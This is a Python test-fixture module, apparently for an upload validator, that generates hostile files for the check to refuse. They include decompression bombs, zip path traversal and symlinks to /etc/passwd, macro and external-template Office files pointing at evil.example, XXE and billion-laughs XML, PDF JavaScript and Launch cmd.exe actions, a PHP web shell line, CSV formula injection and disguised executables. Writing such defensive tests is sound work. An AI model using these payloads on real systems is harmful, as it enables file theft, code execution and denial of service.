"""Hostile files, for the upload check to refuse: bombs, macros, scripts, files dressed up as others."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator

from .upload_files import (
    XML,
    archive,
    gif,
    mp4,
    office,
    office_parts,
    packed_objects,
    pdf,
    picture,
    png,
    relationships,
    wav,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
_WEB = b"<html><script>alert(1)</script></html>"
File = tuple[str, bytes]


def hostile() -> Iterator[File]:
    """File name and content of what must be refused."""
    yield from _hostile_pictures()
    yield from _hostile_archives()
    yield from _hostile_documents()
    yield from _hostile_pdfs()
    yield from _hostile_others()


def _hostile_pictures() -> Iterator[File]:
    yield "空.png", b""
    yield "炸弹.png", png(60_000, 60_000)
    yield "长条.png", png(30_000, 4)
    yield "炸弹.gif", gif(2, 65_535, 65_535)
    yield "万帧.gif", gif(5_000, 16, 16)
    yield "多帧大图.gif", gif(200, 4_000, 4_000)
    yield "截断.png", picture()[:-30]
    yield "截断.jpg", picture("JPEG")[:-40]
    yield "截断.webp", picture("WEBP")[:-4]
    yield "截断.gif", gif(3, 10, 10)[:-3]
    yield "坏校验.png", picture().replace(b"IDAT", b"IDAX")
    yield "只有头.png", b"\x89PNG\r\n\x1a\n"
    yield "只有头.jpg", b"\xff\xd8\xff"
    yield "图和网页.png", picture() + _WEB
    yield "图和压缩包.jpg", picture("JPEG") + archive({"a.class": b"\xca\xfe\xba\xbe"})
    yield "图和压缩包.gif", gif(1, 10, 10) + archive({"a.jar": b"x"})
    yield "脚本图.gif", b"GIF89a/*" + b"\0" * 8 + b"*/=1;alert(1)//;"
    yield "矢量.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "矢量.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "位图.bmp", picture("BMP")
    yield "照片.heic", struct.pack(">I", 24) + b"ftypheic" + b"\0" * 12
    yield "网页.jpg", _WEB


def _hostile_archives() -> Iterator[File]:
    inner = office("docx", {"word/embeddings/b.docx": office("docx")})
    yield "压缩包.zip", archive({"a.txt": "x"})
    yield "压缩包.docx", archive({"a.txt": "x"})
    yield "压缩包.rar", b"Rar!\x1a\x07\x00" + b"\0" * 50
    yield "炸弹.docx", office("docx", {"word/media/a.bin": b"\0" * 40_000_000})
    yield "许多炸弹.docx", office("docx", {f"word/media/{n}.bin": b"\0" * 4_900_000 for n in range(44)})
    yield "重叠炸弹.docx", _overlapping()
    yield "万件.docx", office("docx", {f"word/media/{n}": "" for n in range(2_000)})
    yield "长目录.docx", office("docx", {f"word/{n:05}{'x' * 900}": "" for n in range(1_400)})
    yield "套娃.docx", office("docx", {"word/media/a.zip": archive({"b.zip": archive({"c": "x"})})})
    yield (
        "套三层.docx",
        office("docx", {"word/embeddings/a.docx": inner}),
    )
    yield "套压缩包.xlsx", office("xlsx", {"xl/media/a.bin": b"Rar!\x1a\x07\x00"})
    yield "上级路径.docx", office("docx", {"word/../../../etc/cron.d/x": "x"})
    yield "绝对路径.docx", office("docx", {"/etc/passwd": "x"})
    yield "盘符.docx", office("docx", {"C:/x.dll": "x"})
    yield "反斜杠.docx", office("docx", {"word\\..\\x": "x"}).replace(b"word/../x", b"word\\..\\x")
    yield "重名.docx", office("docx", {"WORD/DOCUMENT.XML": "<x/>"})
    yield "链接.docx", _with_link()
    yield "加密.docx", _locked()
    yield "前面有东西.docx", b"GIF89a" + office("docx")
    yield "前面有程序.docx", b"PK\x03\x04" + b"\0" * 60 + office("docx")
    yield "后面有东西.docx", office("docx") + _WEB * 50
    yield "截断.docx", office("docx")[:-60]
    yield "假大小.docx", _lying()


def _hostile_documents() -> Iterator[File]:
    yield "带宏.docx", office("docx", {"word/vbaProject.bin": OLE})
    types = str(office_parts("docx")["[Content_Types].xml"])
    macro = types.replace("wordprocessingml.document.main", "ms-word.document.macroEnabled.main")
    yield "带宏.docm", office("docx", {"[Content_Types].xml": macro})
    yield "带宏改名.docx", office("docx", {"[Content_Types].xml": macro})
    yield "藏起来的宏.docx", office("docx", {"word/settings.dat": OLE})
    yield "控件.docx", office("docx", {"word/activeX/activeX1.xml": "<a/>"})
    yield "宏表.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"})
    yield "嵌对象.docx", office("docx", {"word/embeddings/oleObject1.bin": OLE})
    yield "嵌程序.pptx", office("pptx", {"ppt/embeddings/setup.exe": b"MZ\x90\0" + b"\0" * 60})
    for kind, target in (
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", "file://evil.example/share/t.dotm"),
        ("oleObject", "https://evil.example/o.bin"),
        ("frame", "https://evil.example/f.html"),
        ("subDocument", "file:///C:/x.docx"),
    ):
        part = {"word/_rels/document.xml.rels": relationships((kind, target, "External"))}
        yield f"外部{kind}.docx", office("docx", part)
    laughs = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
    yield "大笑.docx", office("docx", {"word/document.xml": XML + laughs})
    secret = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield "外部实体.docx", office("docx", {"word/document.xml": XML + secret})
    yield "注释后的实体.docx", office("docx", {"word/document.xml": f"{XML}<!-- x -->\n{secret}"})
    yield "双字节实体.docx", office("docx", {"word/document.xml": ("\ufeff" + secret).encode("utf-16-le")})
    yield "关系里的实体.docx", office("docx", {"_rels/.rels": XML + secret})
    yield "图里的实体.docx", office("docx", {"word/media/a.svg": laughs})
    yield (
        "怪编码.docx",
        office("docx", {"word/a.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE'}),
    )
    yield "旧版.doc", OLE
    yield "加密.docx", OLE


def _hostile_pdfs() -> Iterator[File]:
    yield "脚本.pdf", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    yield "改写的脚本.pdf", pdf(b"<< /S /J#61v#61Script /JS (x) >>")
    yield "启动.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")
    yield "附件.pdf", pdf(b"<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream")
    yield "压缩的脚本.pdf", pdf(packed_objects(b"9 0 << /S /JavaScript /JS (x) >>"))
    yield "看不透的对象.pdf", pdf(packed_objects(b"9 0", b"/Filter /LZWDecode"))
    yield "两层压缩.pdf", pdf(packed_objects(b"9 0", b"/Filter [/ASCII85Decode /FlateDecode]"))
    yield "对象炸弹.pdf", pdf(packed_objects(b" " * 30_000_000))
    yield "加密.pdf", pdf(tail=b"/Encrypt 4 0 R ")
    yield "截断.pdf", pdf()[:-40]
    yield "只有头.pdf", b"%PDF-1.7\n"
    yield "文档和压缩包.pdf", pdf() + archive({"a": "x"})


def _hostile_others() -> Iterator[File]:
    yield "程序.exe", b"MZ\x90\0" + b"\0" * 200
    yield "程序.jpg", b"MZ\x90\0" + b"\0" * 200
    yield "程序.txt", b"MZ\x90\0" + b"\0" * 200
    yield "网页.html", _WEB
    yield "网页.txt", b"\xef\xbb\xbf \n" + _WEB
    yield "脚本.js", b"alert(1)"
    yield "脚本.php.txt", b"<?php system($_GET[0]);"
    yield "二进制.txt", bytes(range(256)) * 4
    yield "零字节.csv", b"a,b\0\n"
    yield "双字节.txt", "文本".encode("utf-16")
    yield "双字节开头的程序.csv", b"\xff\xfe" + b"MZ\x90\0\x03\0\0\0\x04\0" * 40
    yield "双字节网页.csv", _WEB.decode().encode("utf-16")
    yield "双字节公式.csv", "name,x\n=cmd|' /C calc'!A0,1\n".encode("utf-16")
    yield "半个字.csv", "序号,问题\n1,错".encode("utf-16")[:-1]
    yield "公式.csv", b"name,x\n=cmd|' /C calc'!A0,1\n"
    yield "图当文档.docx", picture()
    yield "文档当图.png", office("docx")
    yield "表当文档.docx", office("xlsx")
    yield "图.png.exe", picture()
    yield "假录音.mp3", b"ID3\x04\0\0\0\0\0\0" + _WEB
    yield "假视频.mp4", struct.pack(">I", 16) + b"ftypisom" + b"\0" * 4 + _WEB
    yield "短视频.mp4", mp4()[:-10]
    yield "动画.wav", wav().replace(b"WAVE", b"AVI ")
    yield "过大.txt", b"x" * (20 * 1024 * 1024 + 1)


def _overlapping() -> bytes:
    """Many directory entries that point at one and the same packed part."""
    data = bytearray(office("docx", {"word/media/a.bin": b"\0" * 4_000_000}))
    end = data.rfind(b"PK\x05\x06")
    entries, length, start = struct.unpack("<HII", data[end + 10 : end + 20])
    last = bytes(data[data.rfind(b"PK\x01\x02") : end])
    extra = b"".join(last.replace(b"a.bin", b"%c.bin" % letter) for letter in range(98, 122))
    count, longer = entries + 24, length + len(extra)
    return (
        bytes(data[:end])
        + extra
        + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, longer, start, 0)
    )


def _with_link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, data in office_parts("docx").items():
            file.writestr(name, data)
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    return out.getvalue()


def _locked() -> bytes:
    data = bytearray(office("docx"))
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(magic)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(magic, at + 4)
    return bytes(data)


def _lying() -> bytes:
    """A part that says it unpacks to little and does not."""
    data = bytearray(office("docx", {"word/z.xml": b"<a>" + b" " * 4_000_000 + b"</a>"}))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 3)
    return bytes(data)
